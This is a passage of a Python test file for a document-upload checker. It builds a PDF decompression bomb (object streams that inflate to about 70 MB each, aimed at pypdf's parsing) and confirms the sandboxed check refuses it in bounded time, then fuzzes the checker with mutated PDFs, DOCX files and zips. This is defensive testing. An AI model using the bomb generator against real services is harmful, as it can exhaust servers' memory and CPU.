    zeros = bytes(megabytes * 1_000_000)
    zero_blocks = raw_zeros.compress(zeros) + raw_zeros.flush(zlib.Z_FULL_FLUSH)
    out = bytearray(b"%PDF-1.7\n")
    entries: dict[int, tuple[int, int, int]] = {}

    def add(number: int, body: bytes) -> None:
        entries[number] = (1, len(out), 0)
        out.extend(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    pages = range(10, 10 + streams)
    add(1, CATALOG)
    kids = b" ".join(b"%d 0 R" % page for page in pages)
    add(2, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, streams))
    for index, page in enumerate(pages):
        header = b"%d 0\n" % page
        prefix = header + b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
        head = zlib.compressobj(9, zlib.DEFLATED, -15)
        deflated = head.compress(prefix) + head.flush(zlib.Z_FULL_FLUSH)
        checksum = zlib.adler32(zeros, zlib.adler32(prefix))
        raw = b"\x78\xda" + deflated + zero_blocks + b"\x03\x00" + checksum.to_bytes(4, "big")
        number = 1000 + index
        add(
            number,
            b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (len(header), len(raw))
            + raw
            + b"\nendstream",
        )
        entries[page] = (2, number, 0)
    size = 1000 + streams + 1
    entries[size - 1] = (1, len(out), 0)
    rows = b"".join(
        bytes([kind]) + first.to_bytes(4, "big") + second.to_bytes(2, "big")
        for kind, first, second in (entries.get(n, (0, 0, 0)) for n in range(size))
    )
    raw = zlib.compress(rows)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (size - 1, size)
    out += b" /Filter /FlateDecode /Length %d >>\nstream\n" % len(raw)
    out += raw + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % entries[size - 1][1]
    return bytes(out)


def test_pdf_object_stream_bomb_is_checked_in_bounded_time():
    """Each object stream inflates to 70 MB that pypdf keeps and scans byte by byte; the
    cost grows with the number of streams, and a 10 MB file holds ~150 of them. Uploads
    are therefore checked by `check_upload`, in a child process limited in memory, CPU and
    time: such a file is refused in bounded time and the server is not touched."""
    one = _object_stream_bomb_pdf(1, 70)
    start = one[one.index(b"stream\n") + 7 :]
    assert zlib.decompressobj().decompress(start, 64).startswith(b"10 0\n<< /Type /Page")
    data = _object_stream_bomb_pdf(8, 70)
    began = time.perf_counter()
    with pytest.raises(FileRefused) as refused:
        check_upload(data, seconds=SECONDS_PER_CHECK)
    elapsed = time.perf_counter() - began
    print(
        f"\n[object stream bomb] {len(data)} bytes: refused as {refused.value.code} in {elapsed:.1f} s"
    )
    assert refused.value.code in {"too_complex", "corrupt"}
    assert elapsed < SECONDS_PER_CHECK + 2


def test_isolated_check_accepts_what_the_check_accepts():
    checked = check_upload(PDF_SEED)
    assert (checked.kind, checked.pages, checked.estimated) == ("pdf", 2, False)
    with pytest.raises(FileRefused) as refused:
        check_upload(b"MZ" + bytes(100))
    assert refused.value.code == "not_docx_or_pdf"


# --- fuzzing ----------------------------------------------------------------------------------


def _check_total(data: bytes) -> None:
    """check_file returns a sound CheckedFile or raises FileRefused, in bounded time."""
    started = time.perf_counter()
    try:
        checked = check_file(data, libreoffice="")
    except FileRefused as refused:
        assert refused.code
    else:
        assert isinstance(checked, CheckedFile)
        assert checked.kind in {"docx", "pdf"}
        assert checked.pages >= 1
        assert checked.size == len(data)
    elapsed = time.perf_counter() - started
    assert elapsed < SECONDS_PER_CHECK, f"{elapsed:.1f} s for {len(data)} bytes"


_mutation = st.tuples(
    st.sampled_from(["flip", "truncate", "insert", "delete", "overwrite"]),
    st.integers(min_value=0, max_value=2**31),
    st.binary(min_size=1, max_size=32),
)


def _mutate(seed: bytes, mutations) -> bytes:
    data = bytearray(seed)
    for kind, position, value in mutations:
        at = position % (len(data) + 1)
        if kind == "flip" and data:
            data[at % len(data)] ^= 1 << (value[0] % 8)
        elif kind == "truncate":
            del data[at:]
        elif kind == "insert":
            data[at:at] = value
        elif kind == "delete":
            del data[at : at + value[0] % 64 + 1]
        elif kind == "overwrite":
            data[at : at + len(value)] = value
    return bytes(data)


FUZZ = settings(
    max_examples=300,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@FUZZ
@given(
    prefix=st.sampled_from([b"", b"%PDF-", b"%PDF-1.7\n", b"PK\x03\x04", b"MZ"]),
    body=st.binary(max_size=4096),
)
def test_fuzz_random_bytes(prefix, body):
    _check_total(prefix + body)


@FUZZ
@given(
    seed=st.sampled_from([DOCX_SEED, PDF_SEED, PDF_HIDDEN_SEED]),
    mutations=st.lists(_mutation, min_size=1, max_size=8),
)
def test_fuzz_mutated_valid_files(seed, mutations):
    _check_total(_mutate(seed, mutations))


DOCX_PART_NAMES = sorted(_docx_parts())


@FUZZ
@given(
    name=st.sampled_from(DOCX_PART_NAMES),
    mutations=st.lists(_mutation, min_size=1, max_size=6),
)
def test_fuzz_mutated_docx_parts_rezipped(name, mutations):
    """Structure-aware: one part of a valid DOCX mutated, the zip rebuilt with valid CRCs so
    that the mutation reaches the XML checks and the parser."""
    _check_total(_rezip(DOCX_SEED, replace={name: _mutate(_part(DOCX_SEED, name), mutations)}))


_entry_name = st.one_of(
    st.sampled_from(
        [
            "[Content_Types].xml",
            "word/document.xml",
            "_rels/.rels",
            "word/_rels/document.xml.rels",
            "docProps/app.xml",
            "word/vbaProject.bin",
            "word/",
        ]
    ),
    st.text(min_size=1, max_size=40),
)
_entry_content = st.one_of(
    st.binary(max_size=2048),
    st.sampled_from(
        [
            _part(DOCX_SEED, "[Content_Types].xml"),
            _part(DOCX_SEED, "word/document.xml"),
            _part(DOCX_SEED, "docProps/app.xml"),
            b"<Relationships/>",
        ]
    ),
)


@pytest.mark.filterwarnings("ignore:Duplicate name:UserWarning")
@FUZZ
@given(
    entries=st.lists(
        st.tuples(_entry_name, _entry_content, st.booleans()), min_size=0, max_size=12
    ),
    comment=st.binary(max_size=64),
)
def test_fuzz_random_zips(entries, comment):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.comment = comment
        for name, content, deflate in entries:
            method = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
            try:
                archive.writestr(name, content, compress_type=method)
            except (ValueError, UnicodeEncodeError, IndexError):  # names zipfile will not write
                continue
    _check_total(out.getvalue())
